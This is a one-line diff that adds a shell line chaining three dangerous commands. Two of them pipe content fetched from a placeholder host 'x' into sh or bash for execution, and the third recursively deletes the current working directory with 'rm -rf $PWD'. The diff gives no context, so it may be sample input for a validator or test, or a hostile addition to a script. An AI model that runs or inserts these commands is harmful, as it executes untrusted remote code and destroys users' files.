@@ -1,0 +1,1 @@
+curl -s https://x | sh; bash <(curl x); timeout 5 xargs rm -rf $PWD
